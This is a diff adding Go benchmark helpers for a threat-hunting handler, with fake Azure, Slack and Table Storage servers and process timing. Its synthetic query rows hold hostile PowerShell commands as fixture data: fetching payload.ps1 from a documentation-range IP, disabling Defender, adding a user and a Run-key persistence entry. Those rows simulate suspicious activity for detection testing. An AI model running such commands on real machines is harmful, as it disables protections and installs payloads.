@@ -1,0 +1,600 @@
+package bench
+
+import (
+	"bytes"
+	"context"
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
+	"fmt"
+	"io"
+	"log/slog"
+	"net"
+	"net/http"
+	"net/http/httputil"
+	"net/url"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strconv"
+	"strings"
+	"sync"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/Azure/azure-sdk-for-go/sdk/azidentity"
+	"github.com/Azure/azure-sdk-for-go/sdk/data/aztables"
+
+	"github.com/huntwatch/huntwatch/handler/hunt"
+	"github.com/huntwatch/huntwatch/handler/internal/azurite"
+	"github.com/huntwatch/huntwatch/handler/internal/fakeazure"
+	"github.com/huntwatch/huntwatch/handler/internal/fakeslack"
+	"github.com/huntwatch/huntwatch/handler/loganalytics"
+	"github.com/huntwatch/huntwatch/handler/tablestore"
+)
+
+// ---- binaries -------------------------------------------------------------------------------
+
+var (
+	buildOnce sync.Once
+	buildDir  string
+	buildErr  error
+)
+
+// built returns the handler binary and the minimal server, built once per test binary with the
+// flags of infra/package.sh (static, stripped), so that what is measured is what is deployed.
+func built(tb testing.TB) (handler, minimal string) {
+	tb.Helper()
+	buildOnce.Do(func() {
+		if buildDir, buildErr = os.MkdirTemp("", "huntwatch-bench"); buildErr != nil {
+			return
+		}
+		for _, b := range []struct{ out, pkg string }{
+			{"huntwatch", "./handler"},
+			{"minserver", "./handler/bench/testdata/minserver"},
+		} {
+			cmd := exec.Command("go", "build", "-trimpath", "-ldflags", "-s -w", "-o", filepath.Join(buildDir, b.out), b.pkg)
+			cmd.Dir = repoRoot
+			cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
+			if out, err := cmd.CombinedOutput(); err != nil {
+				buildErr = fmt.Errorf("go build %s: %v\n%s", b.pkg, err, out)
+				return
+			}
+		}
+	})
+	if buildErr != nil {
+		tb.Fatal(buildErr)
+	}
+	return filepath.Join(buildDir, "huntwatch"), filepath.Join(buildDir, "minserver")
+}
+
+// repoRoot is the module root: tests run in handler/bench.
+const repoRoot = "../.."
+
+// ---- the world outside the handler ----------------------------------------------------------
+
+const (
+	accessToken = "bench-access-token-5c4b3a"
+	workspace   = "11111111-2222-3333-4444-555555555555"
+)
+
+type world struct {
+	la     *fakeazure.LogAnalytics
+	id     *fakeazure.Identity
+	slack  *fakeslack.Server
+	tables *azurite.Server
+	proxy  *counter // counting reverse proxy in front of Azurite
+	certs  string
+	hunt   *hunt.Hunt
+}
+
+func newWorld(b *testing.B) *world {
+	b.Helper()
+	h, err := hunt.Load("runcommand-mde") // the default HUNT_FILE
+	if err != nil {
+		b.Fatal(err)
+	}
+	w := &world{
+		la:     fakeazure.NewLogAnalytics(b, accessToken),
+		id:     fakeazure.NewIdentity(b, accessToken),
+		slack:  fakeslack.New(b),
+		tables: azurite.Start(b),
+		hunt:   h,
+	}
+	w.certs = w.la.CertFile(b)
+	w.proxy = newCounter(b, w.tables.Addr())
+	return w
+}
+
+// conn is a connection string through the counting proxy (proxied) or straight to Azurite.
+func (w *world) conn(proxied bool) string {
+	if !proxied {
+		return w.tables.ConnectionString()
+	}
+	return fmt.Sprintf("DefaultEndpointsProtocol=http;AccountName=%s;AccountKey=%s;TableEndpoint=http://%s/%s;",
+		azurite.Account, azurite.Key, w.proxy.addr, azurite.Account)
+}
+
+func (w *world) env(table string) []string {
+	env := []string{
+		"PATH=" + os.Getenv("PATH"),
+		"HOME=" + os.TempDir(),
+		"SSL_CERT_FILE=" + w.certs,
+		"LOG_ANALYTICS_WORKSPACE_ID=" + workspace,
+		"LOG_ANALYTICS_ENDPOINT=" + w.la.Endpoint(),
+		"DEDUP_TABLE_CONNECTION=" + w.conn(true),
+		"DEDUP_TABLE_NAME=" + table,
+		"SLACK_BOT_TOKEN=" + w.slack.Token(),
+		"SLACK_CHANNEL=" + fakeslack.DefaultChannel,
+		"SLACK_API_URL=" + w.slack.URL(),
+		"AZURE_CLIENT_ID=33333333-0000-0000-0000-000000000001",
+		"LOG_LEVEL=warn",
+	}
+	for k, v := range w.id.Env() {
+		env = append(env, k+"="+v)
+	}
+	// Diagnosis: BENCH_CHILD_ENV="GODEBUG=gctrace=1" passes settings to the handler, and
+	// BENCH_CHILD_OUTPUT=FILE appends each handler's output to FILE when it stops.
+	if extra := os.Getenv("BENCH_CHILD_ENV"); extra != "" {
+		env = append(env, strings.Fields(extra)...)
+	}
+	return env
+}
+
+func (w *world) deleteTable(b *testing.B, table string) {
+	svc, err := aztables.NewServiceClientFromConnectionString(w.conn(false), nil)
+	if err != nil {
+		b.Fatal(err)
+	}
+	if _, err := svc.DeleteTable(context.Background(), table, nil); err != nil {
+		b.Logf("delete table %s: %v", table, err)
+	}
+}
+
+// ---- query results --------------------------------------------------------------------------
+
+var columns = cols("TimeGenerated", "datetime", "CorrelationId", "string", "Caller", "string", "CallerIpAddress", "string",
+	"SubscriptionId", "string", "VirtualMachineName", "string", "ResourceId", "string",
+	"PowershellFileName", "string", "PowershellFileSize", "long", "PowershellScriptCommands", "dynamic",
+	"ScriptFingerprintHash", "string")
+
+func cols(nameType ...string) []fakeazure.Column {
+	var out []fakeazure.Column
+	for i := 0; i < len(nameType); i += 2 {
+		out = append(out, fakeazure.Column{Name: nameType[i], Type: nameType[i+1]})
+	}
+	return out
+}
+
+// rowsOf returns n result rows of the bundled hunt, each its own fingerprint and occurrence,
+// about 900 bytes of JSON each (10,000 rows make a 9 MB answer, as in the issue).
+func rowsOf(n int, base time.Time) [][]any {
+	rows := make([][]any, n)
+	sub := "0b1f6471-1bf0-4dda-aec3-cb9272f09590"
+	for i := range rows {
+		vm := fmt.Sprintf("vm-%05d", i)
+		cmds, _ := json.Marshal([]string{
+			"Get-Process | Where-Object { $_.CPU -gt 100 } | Select-Object -First 10",
+			"Invoke-WebRequest -Uri http://203.0.113." + strconv.Itoa(i%250) + "/payload.ps1 -OutFile C:\\Temp\\p.ps1",
+			"Set-MpPreference -DisableRealtimeMonitoring $true",
+			"net user svc-backup P@ssw0rd! /add",
+			"reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v updater /d C:\\Temp\\p.exe",
+			fmt.Sprintf("whoami /all # run %d", i),
+			"Get-WinEvent -LogName Security -MaxEvents 50 | Where-Object { $_.Id -in 4624,4625,4672 } | Export-Csv C:\\Temp\\events.csv -NoTypeInformation",
+		})
+		sum := sha256.Sum256([]byte(fmt.Sprintf("script-%d", i)))
+		rows[i] = []any{
+			base.Add(-time.Duration(i%7200) * time.Second).Format(time.RFC3339Nano),
+			fmt.Sprintf("%08x-7e57-4c0d-9a1b-%012d", i, i),
+			fmt.Sprintf("operator%04d@contoso.com", i%5000),
+			fmt.Sprintf("203.0.113.%d", i%250),
+			sub, vm,
+			"/subscriptions/" + sub + "/resourceGroups/rg-prod/providers/Microsoft.Compute/virtualMachines/" + vm,
+			fmt.Sprintf("script%d.ps1", i%100), 812 + i%1000, string(cmds), hex.EncodeToString(sum[:]),
+		}
+	}
+	return rows
+}
+
+// seedKnown makes every row of the fake's answer a known, delivered fingerprint, exactly as the
+// pipeline stores it: one in-process run (the real source, the real Runner, posts answered at
+// once) into an in-memory store, then its records copied to table in transactions. This is the
+// steady state, in which every row of the window is already known.
+func (w *world) seedKnown(b *testing.B, table string, n int) {
+	b.Helper()
+	mem := &memStore{}
+	r := &hunt.Runner{Log: slog.New(slog.DiscardHandler), Source: w.source(b), Store: mem, Notifier: &nopNotifier{},
+		Now: time.Now, Lookback: 24 * time.Hour, MaxCatchup: 168 * time.Hour, MaxPosts: n + 1}
+	if sum, err := r.Run(context.Background(), w.hunt); err != nil || sum.Posted != n {
+		b.Fatalf("seed run: %v: %s", err, sum)
+	}
+	store, err := tablestore.FromConnectionString(nil, w.conn(false), table, nil)
+	if err != nil {
+		b.Fatal(err)
+	}
+	st, _ := mem.Load(context.Background(), w.hunt.ID)
+	recs := make([]*hunt.Record, 0, len(st.Records))
+	for _, rec := range st.Records {
+		rec.Version = ""
+		recs = append(recs, rec)
+	}
+	if lost, err := store.Put(context.Background(), w.hunt.ID, recs); err != nil || len(lost) > 0 {
+		b.Fatalf("seed: %d lost, %v", len(lost), err)
+	}
+	if err := store.SaveStatus(context.Background(), w.hunt.ID, st.Status); err != nil {
+		b.Fatal(err)
+	}
+}
+
+// source is the Log Analytics source main wires, in this process, through the managed identity.
+func (w *world) source(b *testing.B) *loganalytics.Source {
+	for k, v := range w.id.Env() {
+		os.Setenv(k, v)
+	}
+	cred, err := azidentity.NewManagedIdentityCredential(&azidentity.ManagedIdentityCredentialOptions{ID: azidentity.ClientID("bench")})
+	if err != nil {
+		b.Fatal(err)
+	}
+	src, err := loganalytics.New(workspace, w.la.Endpoint(), cred, loganalytics.Options{Transport: w.la.Client()})
+	if err != nil {
+		b.Fatal(err)
+	}
+	return src
+}
+
+// memStore is a hunt.Store in memory, for seeding.
+type memStore struct {
+	mu     sync.Mutex
+	recs   map[string]*hunt.Record
+	status hunt.Status
+	seq    int
+}
+
+func (m *memStore) Load(_ context.Context, _ string) (*hunt.State, error) {
+	m.mu.Lock()
+	defer m.mu.Unlock()
+	st := &hunt.State{Status: m.status, Records: map[string]*hunt.Record{}}
+	for fp, rec := range m.recs {
+		st.Records[fp] = rec.Clone()
+	}
+	return st, nil
+}
+
+func (m *memStore) Put(_ context.Context, _ string, recs []*hunt.Record) ([]*hunt.Record, error) {
+	m.mu.Lock()
+	defer m.mu.Unlock()
+	if m.recs == nil {
+		m.recs = map[string]*hunt.Record{}
+	}
+	for _, rec := range recs {
+		m.seq++
+		rec.Version = strconv.Itoa(m.seq)
+		m.recs[rec.Fingerprint] = rec.Clone()
+	}
+	return nil, nil
+}
+
+func (m *memStore) SaveStatus(_ context.Context, _ string, st hunt.Status) error {
+	m.mu.Lock()
+	defer m.mu.Unlock()
+	m.status = st
+	return nil
+}
+
+// nopNotifier accepts every post at once. Methods it lacks are never called by the runs it is
+// used in (no digest threshold, no repeats).
+type nopNotifier struct {
+	hunt.Notifier
+	mu  sync.Mutex
+	seq int
+}
+
+func (n *nopNotifier) Notify(context.Context, *hunt.Hunt, *hunt.Finding) (hunt.MessageRef, error) {
+	n.mu.Lock()
+	defer n.mu.Unlock()
+	n.seq++
+	return hunt.MessageRef{Channel: fakeslack.DefaultChannel, TS: fmt.Sprintf("1700000000.%06d", n.seq)}, nil
+}
+
+func (n *nopNotifier) Alert(context.Context, *hunt.Hunt, hunt.Alert) error { return nil }
+
+// ---- Table Storage round trips --------------------------------------------------------------
+
+// counter is a reverse proxy on loopback in front of Azurite that counts the requests it passes.
+type counter struct {
+	addr string
+	mu   sync.Mutex
+	reqs []*tsReq
+}
+
+type tsReq struct {
+	kind string // list, batch, entity (one-entity write or read), table, other
+	ops  int    // operations in a batch
+	pks  int    // distinct partition keys in a batch
+	dur  time.Duration
+}
+
+var (
+	batchOp = regexp.MustCompile(`(?m)^(POST|PUT|PATCH|MERGE|DELETE|GET) https?://`)
+	pkProp  = regexp.MustCompile(`"PartitionKey"\s*:\s*"([^"]*)"`)
+)
+
+func newCounter(b *testing.B, target string) *counter {
+	c := &counter{}
+	rp := httputil.NewSingleHostReverseProxy(&url.URL{Scheme: "http", Host: target})
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		b.Fatal(err)
+	}
+	c.addr = l.Addr().String()
+	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		t0 := time.Now()
+		q := c.count(r)
+		rp.ServeHTTP(w, r)
+		c.mu.Lock()
+		q.dur = time.Since(t0)
+		c.mu.Unlock()
+	})}
+	go srv.Serve(l)
+	b.Cleanup(func() { srv.Close() })
+	return c
+}
+
+func (c *counter) count(r *http.Request) *tsReq {
+	q := &tsReq{kind: "other"}
+	path := r.URL.Path
+	switch {
+	case strings.HasSuffix(path, "/$batch"):
+		body, _ := io.ReadAll(r.Body)
+		r.Body = io.NopCloser(bytes.NewReader(body))
+		q.kind, q.ops = "batch", len(batchOp.FindAll(body, -1))
+		pks := map[string]bool{}
+		for _, m := range pkProp.FindAllSubmatch(body, -1) {
+			pks[string(m[1])] = true
+		}
+		q.pks = len(pks)
+	case strings.HasSuffix(path, "/Tables") || strings.Contains(path, "/Tables("):
+		q.kind = "table"
+	case r.Method == http.MethodGet && (strings.HasSuffix(path, "()") || r.URL.Query().Has("$filter")):
+		q.kind = "list"
+	default:
+		q.kind = "entity"
+	}
+	c.mu.Lock()
+	defer c.mu.Unlock()
+	c.reqs = append(c.reqs, q)
+	return q
+}
+
+// take returns the requests counted since the last take.
+func (c *counter) take() trips {
+	c.mu.Lock()
+	defer c.mu.Unlock()
+	t := trips{}
+	for _, r := range c.reqs {
+		t.total++
+		t.wait += r.dur
+		switch r.kind {
+		case "list":
+			t.list++
+		case "batch":
+			t.batch++
+			t.ops += r.ops
+			t.maxOps = max(t.maxOps, r.ops)
+			t.maxPKs = max(t.maxPKs, r.pks)
+		case "entity":
+			t.entity++
+		default:
+			t.other++
+		}
+	}
+	c.reqs = nil
+	return t
+}
+
+type trips struct {
+	total, list, batch, entity, other int
+	ops, maxOps, maxPKs               int
+	wait                              time.Duration // summed request times
+}
+
+func (t trips) String() string {
+	s := fmt.Sprintf("%d in %s (%d list", t.total, ms(t.wait), t.list)
+	if t.batch > 0 {
+		s += fmt.Sprintf(", %d batch of ≤%d ops", t.batch, t.maxOps)
+	}
+	if t.entity > 0 {
+		s += fmt.Sprintf(", %d single-entity", t.entity)
+	}
+	if t.other > 0 {
+		s += fmt.Sprintf(", %d create table", t.other)
+	}
+	return s + ")"
+}
+
+// ---- processes ------------------------------------------------------------------------------
+
+type proc struct {
+	cmd  *exec.Cmd
+	url  string
+	out  *lockedBuffer
+	done chan struct{}
+}
+
+type lockedBuffer struct {
+	mu sync.Mutex
+	b  bytes.Buffer
+}
+
+func (l *lockedBuffer) Write(p []byte) (int, error) {
+	l.mu.Lock()
+	defer l.mu.Unlock()
+	if l.b.Len() > 1<<20 {
+		return len(p), nil
+	}
+	return l.b.Write(p)
+}
+
+func (l *lockedBuffer) String() string {
+	l.mu.Lock()
+	defer l.mu.Unlock()
+	return l.b.String()
+}
+
+func freePort(b testing.TB) string {
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		b.Fatal(err)
+	}
+	defer l.Close()
+	return strconv.Itoa(l.Addr().(*net.TCPAddr).Port)
+}
+
+var pollClient = &http.Client{Timeout: 2 * time.Second, Transport: &http.Transport{DisableKeepAlives: true}}
+
+// start execs bin as the Functions host does and returns once it answers 200 on /, with the time
+// from exec to that answer.
+func start(b testing.TB, bin string, env []string, args ...string) (*proc, time.Duration) {
+	b.Helper()
+	port := freePort(b)
+	p := &proc{url: "http://127.0.0.1:" + port, out: &lockedBuffer{}, done: make(chan struct{})}
+	p.cmd = exec.Command(bin, args...)
+	p.cmd.Env = append(append([]string{}, env...), "FUNCTIONS_CUSTOMHANDLER_PORT="+port)
+	p.cmd.Stdout, p.cmd.Stderr = p.out, p.out
+	started := time.Now()
+	if err := p.cmd.Start(); err != nil {
+		b.Fatal(err)
+	}
+	go func() { p.cmd.Wait(); close(p.done) }()
+	b.Cleanup(func() { p.kill() })
+	for {
+		resp, err := pollClient.Get(p.url + "/")
+		if err == nil {
+			resp.Body.Close()
+			if resp.StatusCode == http.StatusOK {
+				return p, time.Since(started)
+			}
+		}
+		select {
+		case <-p.done:
+			b.Fatalf("%s exited before ready:\n%s", bin, p.out)
+		default:
+		}
+		if time.Since(started) > 20*time.Second {
+			b.Fatalf("%s not ready after 20s:\n%s", bin, p.out)
+		}
+		time.Sleep(200 * time.Microsecond)
+	}
+}
+
+const timerPayload = `{"Data":{"timer":{"Schedule":{"AdjustForDST":true},"ScheduleStatus":{"Last":"0001-01-01T00:00:00","Next":"2026-11-27T14:00:00+00:00","LastUpdated":"0001-01-01T00:00:00"},"IsPastDue":false}},"Metadata":{"sys":{"MethodName":"function","UtcNow":"2026-11-27T13:00:00Z"}}}`
+
+var invokeClient = &http.Client{Timeout: 15 * time.Minute}
+
+// invoke POSTs a timer invocation and returns the time to the answer and its summary line.
+func (p *proc) invoke(b testing.TB) (time.Duration, string) {
+	b.Helper()
+	t0 := time.Now()
+	resp, err := invokeClient.Post(p.url+"/function", "application/json", strings.NewReader(timerPayload))
+	if err != nil {
+		b.Fatalf("invoke: %v", err)
+	}
+	body, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	d := time.Since(t0)
+	var reply struct{ Logs []string }
+	json.Unmarshal(body, &reply)
+	if resp.StatusCode != http.StatusOK {
+		b.Fatalf("invoke: status %d %s\n%s", resp.StatusCode, body, p.out)
+	}
+	return d, strings.Join(reply.Logs, " ")
+}
+
+// stop returns the process's peak RSS in bytes, then sends it SIGTERM by pid and waits.
+//
+// The peak is VmHWM from /proc/<pid>/status, read while the process still lives. The child's
+// rusage Maxrss is no use here: Go starts children with vfork, and Linux folds the high-water
+// mark of the address space exec replaces, the parent's (this test, with its fakes), into it.
+func (p *proc) stop(b testing.TB) int64 {
+	b.Helper()
+	peak := vmHWM(b, p.cmd.Process.Pid)
+	p.cmd.Process.Signal(syscall.SIGTERM)
+	select {
+	case <-p.done:
+	case <-time.After(30 * time.Second):
+		b.Fatalf("no exit within 30 s of SIGTERM:\n%s", p.out)
+	}
+	if name := os.Getenv("BENCH_CHILD_OUTPUT"); name != "" {
+		if f, err := os.OpenFile(name, os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o644); err == nil {
+			fmt.Fprintf(f, "==== %s %s\n%s", b.Name(), p.cmd.Path, p.out)
+			f.Close()
+		}
+	}
+	return peak
+}
+
+func vmHWM(b testing.TB, pid int) int64 {
+	status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
+	if err != nil {
+		b.Fatalf("peak RSS: %v", err)
+	}
+	for _, line := range strings.Split(string(status), "\n") {
+		if v, ok := strings.CutPrefix(line, "VmHWM:"); ok {
+			kb, err := strconv.ParseInt(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(v), "kB")), 10, 64)
+			if err != nil {
+				b.Fatalf("peak RSS: %q: %v", line, err)
+			}
+			return kb << 10
+		}
+	}
+	b.Fatalf("peak RSS: no VmHWM in /proc/%d/status", pid)
+	return 0
+}
+
+func (p *proc) kill() {
+	if p.cmd.Process != nil && p.cmd.ProcessState == nil {
+		p.cmd.Process.Kill()
+		<-p.done
+	}
+}
+
+// summaryCount reads "<n> <what>" from a run summary ("12 new", "50 posted", ...).
+func summaryCount(b testing.TB, summary, what string) int {
+	m := regexp.MustCompile(`(\d+) ` + what + `\b`).FindStringSubmatch(summary)
+	if m == nil {
+		b.Fatalf("summary %q has no %q", summary, what)
+	}
+	n, _ := strconv.Atoi(m[1])
+	return n
+}
+
+// ---- statistics -----------------------------------------------------------------------------
+
+func median[T int64 | float64 | time.Duration | int](xs []T) T {
+	s := slices.Clone(xs)
+	slices.Sort(s)
+	n := len(s)
+	if n == 0 {
+		return 0
+	}
+	if n%2 == 1 {
+		return s[n/2]
+	}
+	return (s[n/2-1] + s[n/2]) / 2
+}
+
+func ms(d time.Duration) string {
+	switch {
+	case d >= 10*time.Second:
+		return fmt.Sprintf("%.1f s", d.Seconds())
+	case d >= 100*time.Millisecond:
+		return fmt.Sprintf("%.0f ms", float64(d)/1e6)
+	default:
+		return fmt.Sprintf("%.1f ms", float64(d)/1e6)
+	}
+}
+
+func mb(n int64) string { return fmt.Sprintf("%.1f MB", float64(n)/(1<<20)) }
